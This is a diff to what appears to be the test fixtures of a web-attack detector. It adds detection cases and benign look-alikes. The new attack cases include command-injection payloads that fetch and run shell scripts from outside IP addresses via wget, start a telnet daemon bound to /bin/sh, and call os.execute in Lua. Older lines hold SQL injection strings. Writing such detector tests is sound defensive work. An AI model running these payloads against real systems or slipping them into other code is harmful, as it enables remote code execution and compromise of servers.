@@ -550,6 +550,18 @@ export const ATTACKS: DetectorCase[] = [
   q("a quoted OR that the application's literal closes", "admin'or'", "942100"),
   q("a PostgREST condition smuggled into the app's or-list", "%,is_admin.eq.true,email.ilike.%", "942298"),
   q("ClickHouse's per-row sleep in a sort", "visits DESC, sleepEachRow(3)", "942150"),
+  q(
+    "a substitution right after the quote that closes the app's",
+    "a'$(wget http://91.92.243.18/rv.sh -O-|sh)'b",
+    "932130",
+  ),
+  q(
+    "a separator glued to the breakout quote after several words",
+    "aa aa';wget http://147.78.103.115/d -O ->/tmp/r;sh /tmp/r'$",
+    "932100",
+  ),
+  q("a telnet daemon started with a shell", "$(telnetd -p25 -l/bin/sh)", "932130"),
+  q("Lua's way to a shell", 'os.execute("wget -O /tmp/v http://45.95.147.236/vera;sh /tmp/v")', "934155"),
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -561,6 +573,12 @@ export const BENIGN: DetectorCase[] = [
   q("a search group of a language and a phrase", 'title:(python OR "data science")'),
   q("OData comparing to the order type OR", "SalesOrderType eq 'OR'"),
   q("sites listed by domain", "google.com,flipkart.co.in,bbc.co.uk"),
+  { name: "a client library naming its runtime", where: "ua", value: "sendgrid/8.1.1;nodejs", hit: [] },
+  q(
+    "a quoted phrase, a group and a field's group",
+    '"qualified immunity" AND ("§ 1983" OR "42 U.S.C. 1983") AND court_id:(ca5 OR ca9)',
+  ),
+  q("a possessive before a separator in prose", "the teachers' ; room 4"),
   j(
     "a Go template's variable piped to a function",
     "Memory at {{ $value | humanizePercentage }} on {{ $labels.instance }}",
